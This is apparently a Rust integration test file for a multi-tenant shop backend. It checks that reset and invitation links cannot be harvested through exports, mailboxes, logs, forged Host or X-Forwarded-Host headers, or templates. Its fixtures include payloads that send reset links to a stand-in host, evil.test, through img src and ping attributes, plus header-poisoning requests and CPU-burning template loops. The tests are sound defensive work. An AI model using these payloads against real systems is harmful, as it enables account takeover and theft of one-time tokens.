//! Attacks on the links Agora mails and the emails it keeps (issue 8: scenarios 1, 2, 8 and
//! two of 9). Each test is the attack, told from the attacker's side, and what they get now.

use crate::notifications::{free_port, links_to, token_of, SmtpSink};
use crate::support::{eventually, problem, run_agora, AgoraProcess, TestApp, TestDatabase, PASSWORD, TOKEN_KEY};
use reqwest::Method;
use serde_json::{json, Value};
use std::time::{Duration, Instant};

/// The app with job workers sending over SMTP on `smtp_port`, and `extra` settings.
async fn app_with_smtp(smtp_port: u16, extra: &[(&str, &str)]) -> TestApp {
    TestApp::spawn_with(|o| {
        o.env.insert("AGORA_MAIL_FROM".into(), "Agora Shops <shops@agora.test>".into());
        o.env.insert("AGORA_WORKERS".into(), "2".into());
        o.env.insert("AGORA_SMTP_URL".into(), format!("smtp://127.0.0.1:{smtp_port}"));
        for (k, v) in extra {
            o.env.insert(k.to_string(), v.to_string());
        }
    })
    .await
}

fn store(app: &TestApp, method: Method, path: &str, shop: &str) -> reqwest::RequestBuilder {
    app.client.request(method, app.url(path)).header("x-tenant-id", shop)
}

async fn register(app: &TestApp, shop: &str, email: &str) {
    let res = store(app, Method::POST, "/api/v1/store/auth/register", shop)
        .json(&json!({"email": email, "password": PASSWORD, "name": "Mallory"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 202, "register");
}

async fn customer_login(app: &TestApp, shop: &str, email: &str) -> Value {
    customer_login_with(app, shop, email, PASSWORD).await
}

async fn request_reset(app: &TestApp, area: &str, shop: &str, email: &str) {
    let res = store(app, Method::POST, &format!("/api/v1/{area}/auth/password-reset/request"), shop)
        .json(&json!({ "email": email }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 202, "reset requested");
}

/// Every stored email of `shop`, as the mailbox shows it to `token`'s holder.
async fn mailbox(app: &TestApp, shop: &str, token: &str) -> Vec<String> {
    let list = store(app, Method::GET, "/api/v1/admin/notifications/messages?limit=100", shop)
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(list.status(), 200, "the mailbox is open to notifications.manage");
    let list: Value = list.json().await.unwrap();
    let mut bodies = vec![list.to_string()];
    for item in list["items"].as_array().unwrap() {
        let path = format!("/api/v1/admin/notifications/messages/{}", item["id"].as_str().unwrap());
        bodies
            .push(store(app, Method::GET, &path, shop).bearer_auth(token).send().await.unwrap().text().await.unwrap());
    }
    bodies
}

/// Scenario 1: an anonymous shopper registers a customer account with the owner's address,
/// has a staff password reset (and, at a new shop, the owner's 72-hour invitation) mailed to
/// that address, and exports "their" data. The export holds only their own account's mail; no
/// copy of the owner's link is kept anywhere staff, the customer or the audit log can read.
#[tokio::test]
async fn a_customer_with_the_owners_address_gets_no_staff_link_from_the_export_or_the_mailbox() {
    let app = TestApp::spawn().await;
    let acme = app.tenant("acme").await;
    let owner = app.staff(&acme, &["owner"]).await;
    register(&app, &acme, &owner.email).await;
    let login = customer_login(&app, &acme, &owner.email).await;
    let (customer_id, token) = (login["account"]["id"].as_str().unwrap(), login["access_token"].as_str().unwrap());
    request_reset(&app, "admin", &acme, &owner.email).await;

    let export = store(&app, Method::GET, "/api/v1/store/me/export", &acme).bearer_auth(token).send().await.unwrap();
    assert_eq!(export.status(), 200);
    let text = export.text().await.unwrap();
    assert!(!text.contains("token="), "no one-time link in the export: {text}");
    let export: Value = serde_json::from_str(&text).unwrap();
    let emails = export["held_elsewhere"][0]["data"]["emails"].as_array().unwrap();
    let templates: Vec<&str> = emails.iter().map(|e| e["template"].as_str().unwrap()).collect();
    assert_eq!(templates, ["email_verification"], "only mail to the customer's own account");
    assert_eq!(emails[0]["account"], format!("customer:{customer_id}"));

    // `support` holds notifications.manage: the mailbox shows that a reset went out, not its link.
    let support = app.staff(&acme, &["support"]).await;
    let seen = mailbox(&app, &acme, &support.access_token).await;
    assert!(seen.iter().any(|body| body.contains("password_reset")), "the reset is listed");
    for body in &seen {
        assert!(!body.contains("token="), "no one-time link in the mailbox: {body}");
    }
    let audit = app.admin(Method::GET, "/api/v1/admin/audit-log?limit=100", &acme).send().await.unwrap();
    assert!(!audit.text().await.unwrap().contains("token="), "nor in the audit log");
    let pg = app.db.connect().await;
    let clear: i64 = pg
        .query_one(
            "SELECT count(*) FROM t_acme.notification_messages \
             WHERE subject || body_text || coalesce(body_html, '') LIKE '%token=%'",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(clear, 0, "no stored email holds a link in the clear");

    // The same with a new shop's 72-hour owner invitation.
    let res = app
        .platform(Method::POST, "/api/v1/platform/tenants")
        .json(&json!({"slug": "beta", "name": "Beta", "owner": {"email": "olga@beta.test"}}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
    register(&app, "beta", "olga@beta.test").await;
    let login = customer_login(&app, "beta", "olga@beta.test").await;
    let export = store(&app, Method::GET, "/api/v1/store/me/export", "beta")
        .bearer_auth(login["access_token"].as_str().unwrap())
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!export.contains("staff_invitation") && !export.contains("token="), "{export}");
}

/// Scenario 1, the legitimate side: the owner still gets their link, over SMTP, and once it is
/// delivered nothing but a redacted copy is kept.
#[tokio::test]
async fn the_owners_reset_link_reaches_the_owner_alone() {
    let port = free_port();
    let sink = SmtpSink::start(port).await;
    let app = app_with_smtp(port, &[]).await;
    let acme = app.tenant("acme").await;
    let owner = app.staff(&acme, &["owner"]).await;
    request_reset(&app, "admin", &acme, &owner.email).await;
    let link = links_to(&sink, &owner.email, "admin/reset-password?token=", 1).await.remove(0);
    let res = store(&app, Method::POST, "/api/v1/admin/auth/password-reset/confirm", &acme)
        .json(&json!({"token": token_of(&link), "password": "the owner's new passphrase"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 204);
    let pg = app.db.connect().await;
    let query = "SELECT body_text, coalesce(body_html, ''), sealed_content IS NULL, status \
                 FROM t_acme.notification_messages WHERE template_key = 'password_reset'";
    // The SMTP server has the mail before the worker records it sent: wait for that record.
    eventually(Duration::from_secs(10), || async {
        pg.query_one(query, &[]).await.unwrap().get::<_, String>(3) == "sent"
    })
    .await;
    let row = pg.query_one(query, &[]).await.unwrap();
    let (text, html, dropped): (String, String, bool) = (row.get(0), row.get(1), row.get(2));
    assert!(!text.contains("token=") && !html.contains("token="), "{text}\n{html}");
    assert!(text.contains("[one-time link, sent only to the recipient]"), "{text}");
    assert!(dropped, "the sealed copy for the SMTP server is gone once delivered");
}

/// Scenario 1 without SMTP, end to end on the real binary: the CLI that opens a shop prints the
/// owner's link once; a customer with the owner's address exports nothing of it; the owner's
/// link works; and no log line of the server ever held a link.
#[tokio::test]
async fn without_smtp_the_cli_hands_the_owner_their_link_and_no_log_holds_one() {
    let db = TestDatabase::create().await;
    let env = [("DATABASE_URL", db.url.as_str()), ("AGORA_TOKEN_KEY", TOKEN_KEY)];
    let args = ["tenant", "create", "acme", "--name", "Acme", "--owner-email", "olga@acme.test"];
    let (ok, out, err) = run_agora(&args, &env).await;
    assert!(ok, "{err}");
    let link = out.split_whitespace().find(|w| w.contains("/admin/accept-invitation?token=")).unwrap_or_else(|| {
        panic!("the owner's link is printed: {out}");
    });
    assert!(link.starts_with("https://acme.localhost/admin/accept-invitation?token="), "{link}");
    assert!(!err.contains("token="), "{err}");
    // An invited staff member's link, likewise; and another on demand for someone still invited.
    let (ok, out, err) =
        run_agora(&["staff", "create", "acme", "--email", "ann@acme.test", "--role", "support"], &env).await;
    assert!(ok, "{err}");
    assert!(out.contains("/admin/accept-invitation?token="), "{out}");
    let (ok, again, err) = run_agora(&["staff", "invitation-link", "acme", "--email", "ann@acme.test"], &env).await;
    assert!(ok, "{err}");
    let again = again.split_whitespace().find(|w| w.contains("token=")).unwrap_or_else(|| panic!("{again}"));
    assert!(!out.contains(again), "a fresh link each time");

    let mut agora = AgoraProcess::spawn(&["serve", "--bind", "127.0.0.1:0"], &env);
    let base = agora.wait_listening().await;
    let client = reqwest::Client::new();
    let post = |path: &str, body: Value| client.post(format!("{base}{path}")).header("x-tenant-id", "acme").json(&body);
    let res = post("/api/v1/store/auth/register", json!({"email": "olga@acme.test", "password": PASSWORD}));
    assert_eq!(res.send().await.unwrap().status(), 202);
    let login: Value =
        post("/api/v1/store/auth/login", json!({"email": "olga@acme.test", "password": PASSWORD, "client": "api"}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    let res = post("/api/v1/admin/auth/password-reset/request", json!({"email": "olga@acme.test"}));
    assert_eq!(res.send().await.unwrap().status(), 202);
    let export = client
        .get(format!("{base}/api/v1/store/me/export"))
        .header("x-tenant-id", "acme")
        .bearer_auth(login["access_token"].as_str().unwrap())
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!export.contains("token="), "{export}");

    let res = post(
        "/api/v1/admin/auth/password-reset/confirm",
        json!({"token": token_of(link), "password": "olga's own passphrase"}),
    );
    assert_eq!(res.send().await.unwrap().status(), 204, "the printed link sets the owner's password");
    let res = post(
        "/api/v1/admin/auth/login",
        json!({"email": "olga@acme.test", "password": "olga's own passphrase", "client": "api"}),
    );
    let owner: Value = res.send().await.unwrap().json().await.unwrap();
    assert_eq!(owner["account"]["roles"], json!(["owner"]));

    agora.signal(nix::sys::signal::Signal::SIGTERM);
    assert!(agora.wait_exit_with_logs(Duration::from_secs(30)).await.success());
    let lines = agora.log_lines();
    assert!(lines.iter().any(|l| l.contains("email recorded")), "the server logged its work");
    for line in lines {
        assert!(!line.contains("token="), "a log line holds a link: {line}");
    }
}

/// Scenario 2: a reset requested with a forwarded or forged host still links to the shop's
/// configured address; a primary domain, once set, is what links use; and the shop a request is
/// for is never taken from `X-Forwarded-Host`.
#[tokio::test]
async fn links_come_from_configuration_never_from_headers_a_client_sends() {
    let port = free_port();
    let sink = SmtpSink::start(port).await;
    let app = app_with_smtp(port, &[("AGORA_PUBLIC_URL", "https://{slug}.shops.test")]).await;
    let acme = app.tenant("acme").await;
    let anna = "anna@example.com";
    register(&app, &acme, anna).await;
    let forwarded = store(&app, Method::POST, "/api/v1/store/auth/password-reset/request", &acme)
        .header("x-forwarded-host", "evil.test")
        .header("x-forwarded-proto", "http")
        .header("forwarded", "host=evil.test;proto=http")
        .json(&json!({ "email": anna }));
    assert_eq!(forwarded.send().await.unwrap().status(), 202);
    let forged = store(&app, Method::POST, "/api/v1/store/auth/password-reset/request", &acme)
        .header("host", "evil.test")
        .json(&json!({ "email": anna }));
    assert_eq!(forged.send().await.unwrap().status(), 202);
    for link in links_to(&sink, anna, "reset-password?token=", 2).await {
        assert!(link.starts_with("https://acme.shops.test/reset-password?token="), "{link}");
    }
    let verify = links_to(&sink, anna, "verify-email?token=", 1).await.remove(0);
    assert!(verify.starts_with("https://acme.shops.test/verify-email?token="), "{verify}");

    // A shop with a domain of its own: the platform makes it the primary one.
    let res = app
        .platform(Method::POST, "/api/v1/platform/tenants")
        .json(&json!({"slug": "beta", "name": "Beta", "domains": ["shop.beta.example", "beta.example"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
    let primary = |domain: Value| {
        app.platform(Method::PUT, "/api/v1/platform/tenants/beta/primary-domain").json(&json!({ "domain": domain }))
    };
    let body = problem(primary(json!("elsewhere.example")).send().await.unwrap(), 422).await;
    assert_eq!(body["errors"][0]["field"], "domain");
    let res = primary(json!("Shop.Beta.example")).send().await.unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.json::<Value>().await.unwrap()["primary_domain"], "shop.beta.example");
    register(&app, "beta", "bo@example.com").await;
    let link = links_to(&sink, "bo@example.com", "verify-email?token=", 1).await.remove(0);
    assert!(link.starts_with("https://shop.beta.example/verify-email?token="), "{link}");

    // The OpenID Connect redirect_uri (what the provider sends the code to) likewise.
    let oidc = json!({"issuer_url": "https://login.example.com", "client_id": "agora", "client_secret": "from-the-provider",
                      "account_kind": "customer", "current_password": PASSWORD});
    let res = app
        .admin(Method::PUT, "/api/v1/admin/oidc", &acme)
        .header("host", "evil.test")
        .header("x-forwarded-host", "evil.test")
        .json(&oidc)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "OIDC configured: {}", res.text().await.unwrap_or_default());
    let config: Value = res.json().await.unwrap();
    assert_eq!(config["redirect_uri"], "https://acme.shops.test/api/v1/store/auth/oidc/callback");

    // The shop comes from the request's own Host (or X-Tenant-ID), never a forwarded one.
    let by_forwarded = app.get("/api/v1/store/shop").header("x-forwarded-host", "acme.localhost").send().await.unwrap();
    problem(by_forwarded, 404).await;
    let by_host = app.get("/api/v1/store/shop").header("host", "acme.localhost").send().await.unwrap();
    assert_eq!(by_host.status(), 200, "the real Host still addresses the shop");
}

/// Scenario 8: a merchant (or anyone with notifications.manage) saves a template whose loops
/// would run for hours, or whose output would fill memory. Saving answers at once with a 422
/// naming the part, and sending a shop's own template is bounded the same way.
#[tokio::test]
async fn a_template_that_would_burn_cpu_or_memory_is_refused_at_once() {
    let app = TestApp::spawn().await;
    let acme = app.tenant("acme").await;
    let put = |path: &str, body: Value| {
        app.admin(Method::PUT, &format!("/api/v1/admin/notifications/templates/{path}"), &acme)
            .timeout(Duration::from_secs(20))
            .json(&body)
    };
    let burn = "{% for a in range(100000) %}{% for b in range(100000) %}{{ a }}{% endfor %}{% endfor %}";
    let started = Instant::now();
    let res = put("welcome/en", json!({"subject": "Hi", "body_text": burn})).send().await.expect("an answer in time");
    let body = problem(res, 422).await;
    assert_eq!(body["errors"][0]["field"], "body_text", "{body}");
    assert!(body["errors"][0]["message"].as_str().unwrap().contains("too long"), "{body}");
    assert!(started.elapsed() < Duration::from_secs(10), "refused in {:?}", started.elapsed());
    let flood = format!("{{% for a in range(50000) %}}{}{{% endfor %}}", "x".repeat(100));
    let res = put("welcome/en", json!({"subject": "Hi", "body_text": "ok", "body_html": flood})).send().await.unwrap();
    let body = problem(res, 422).await;
    assert_eq!(body["errors"][0]["field"], "body_html", "{body}");
    assert!(body["errors"][0]["message"].as_str().unwrap().contains("KiB"), "{body}");

    // A shop's own template is only parsed when saved; sending it is what renders it.
    let res = put("spring_sale/en", json!({"subject": "Sale", "body_text": burn})).send().await.unwrap();
    assert_eq!(res.status(), 200);
    let res = app
        .admin(Method::POST, "/api/v1/admin/notifications/test-send", &acme)
        .timeout(Duration::from_secs(20))
        .json(&json!({"template": "spring_sale", "locale": "en", "to": "a@example.com", "variables": {}}))
        .send()
        .await
        .expect("an answer in time");
    let body = problem(res, 422).await;
    assert!(body["errors"][0]["message"].as_str().unwrap().contains("too long"), "{body}");
    assert_eq!(app.get("/healthz").send().await.unwrap().status(), 200);
}

/// Scenario 1 from the template side: a template is editable by notifications.manage, so a
/// shop's version of a mail carrying a one-time link must use the link whole, where it belongs.
/// Otherwise `support` could mail the owner's reset link to a server of theirs.
#[tokio::test]
async fn a_template_cannot_take_a_one_time_link_apart() {
    let app = TestApp::spawn().await;
    let acme = app.tenant("acme").await;
    let support = app.staff(&acme, &["support"]).await;
    let put = |body: Value| {
        app.as_user(Method::PUT, "/api/v1/admin/notifications/templates/password_reset/en", &acme, &support).json(&body)
    };
    let leaks = [
        json!({"subject": "Reset", "body_text": "{{ reset_url }}",
               "body_html": "<img src=\"https://evil.test/?{{ reset_url }}\">"}),
        json!({"subject": "Reset", "body_text": "https://evil.test/?u={{ reset_url }}"}),
        json!({"subject": "Reset {{ reset_url }}", "body_text": "{{ reset_url }}"}),
        json!({"subject": "Reset", "body_text": "{{ reset_url }}",
               "body_html": "<a href=\"{{ reset_url }}\" ping=\"https://evil.test/\">Reset</a>"}),
    ];
    for leak in leaks {
        let body = problem(put(leak.clone()).send().await.unwrap(), 422).await;
        assert!(body["errors"][0]["message"].as_str().unwrap().contains("one-time link"), "{leak}: {body}");
    }
    // A filter (`{{ reset_url | reverse }}`) only ever sees an opaque stand-in, never the link.
    let fine = json!({"subject": "Reset at {{ shop_name }}", "body_text": "Hi {{ customer_name }}:\n{{ reset_url }}\n",
                      "body_html": "<p><a href=\"{{ reset_url }}\">Reset</a></p>"});
    assert_eq!(put(fine).send().await.unwrap().status(), 200, "a shop may still reword the email");
}

/// Scenario 9: unsubscribing needs the signed token from a marketing email's link; an address
/// alone (which anyone can type) or a token made up, or made for another shop, does nothing.
#[tokio::test]
async fn unsubscribing_takes_the_signed_link_from_the_email_not_an_address() {
    let app = TestApp::spawn().await;
    let acme = app.tenant("acme").await;
    let other = app.tenant("other").await;
    let sale = json!({"subject": "Spring sale", "body_text": "20% off everything."});
    let res = app.admin(Method::PUT, "/api/v1/admin/notifications/templates/spring_sale/en", &acme).json(&sale);
    assert_eq!(res.send().await.unwrap().status(), 200);
    let send = json!({"template": "spring_sale", "locale": "en", "to": "Keen@Example.com", "category": "marketing",
                      "variables": {}});
    let res = app.admin(Method::POST, "/api/v1/admin/notifications/test-send", &acme).json(&send).send().await.unwrap();
    assert_eq!(res.status(), 202);
    let sent: Value = res.json().await.unwrap();
    let text = sent["body_text"].as_str().unwrap();
    let link = text.split_whitespace().find(|w| w.contains("/unsubscribe?token=")).unwrap_or_else(|| panic!("{text}"));
    assert!(link.starts_with(&app.url("/unsubscribe?token=")), "{link}");
    let token = token_of(link);

    let unsubscribe = |shop: &str, body: Value| {
        store(&app, Method::POST, "/api/v1/store/notifications/unsubscribe", shop).json(&body)
    };
    let opted_out = || async {
        let prefs: Value = app
            .admin(Method::GET, "/api/v1/admin/notifications/preferences/keen@example.com", &acme)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        prefs["marketing_opt_out"].as_bool().unwrap()
    };
    let by_address = unsubscribe(&acme, json!({"email": "keen@example.com"})).send().await.unwrap();
    assert!(by_address.status().is_client_error(), "an address alone: {}", by_address.status());
    let made_up = problem(unsubscribe(&acme, json!({"token": "bm90LWEtdG9rZW4"})).send().await.unwrap(), 422).await;
    assert_eq!(made_up["errors"][0]["field"], "token");
    problem(unsubscribe(&other, json!({ "token": token })).send().await.unwrap(), 422).await;
    assert!(!opted_out().await, "still subscribed");
    assert_eq!(unsubscribe(&acme, json!({ "token": token })).send().await.unwrap().status(), 204);
    assert!(opted_out().await, "the link from the email works");
}

/// Scenario 9: reset links mailed before a password change die with the old password, whether
/// it changed through another reset link or by the signed-in user.
#[tokio::test]
async fn a_password_change_kills_every_outstanding_reset_link() {
    let port = free_port();
    let sink = SmtpSink::start(port).await;
    let app = app_with_smtp(port, &[]).await;
    let acme = app.tenant("acme").await;
    let customer = app.customer(&acme).await;
    request_reset(&app, "store", &acme, &customer.email).await;
    request_reset(&app, "store", &acme, &customer.email).await;
    let links = links_to(&sink, &customer.email, "reset-password?token=", 2).await;
    let confirm = |token: String, password: &str| {
        store(&app, Method::POST, "/api/v1/store/auth/password-reset/confirm", &acme)
            .json(&json!({"token": token, "password": password}))
            .send()
    };
    assert_eq!(confirm(token_of(&links[0]), "first new passphrase").await.unwrap().status(), 204);
    problem(confirm(token_of(&links[1]), "second new passphrase").await.unwrap(), 422).await;

    request_reset(&app, "store", &acme, &customer.email).await;
    let all = links_to(&sink, &customer.email, "reset-password?token=", 3).await;
    let fresh: Vec<&String> = all.iter().filter(|l| !links.contains(l)).collect();
    assert_eq!(fresh.len(), 1);
    let login = customer_login_with(&app, &acme, &customer.email, "first new passphrase").await;
    let res = store(&app, Method::POST, "/api/v1/store/me/password", &acme)
        .bearer_auth(login["access_token"].as_str().unwrap())
        .json(&json!({"current_password": "first new passphrase", "new_password": "changed while signed in", "client": "api"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "password changed");
    for link in fresh {
        problem(confirm(token_of(link), "an attacker's passphrase").await.unwrap(), 422).await;
    }
    customer_login_with(&app, &acme, &customer.email, "changed while signed in").await;
}

async fn customer_login_with(app: &TestApp, shop: &str, email: &str, password: &str) -> Value {
    let res = store(app, Method::POST, "/api/v1/store/auth/login", shop)
        .json(&json!({"email": email, "password": password, "client": "api"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "login with {password}");
    res.json().await.unwrap()
}
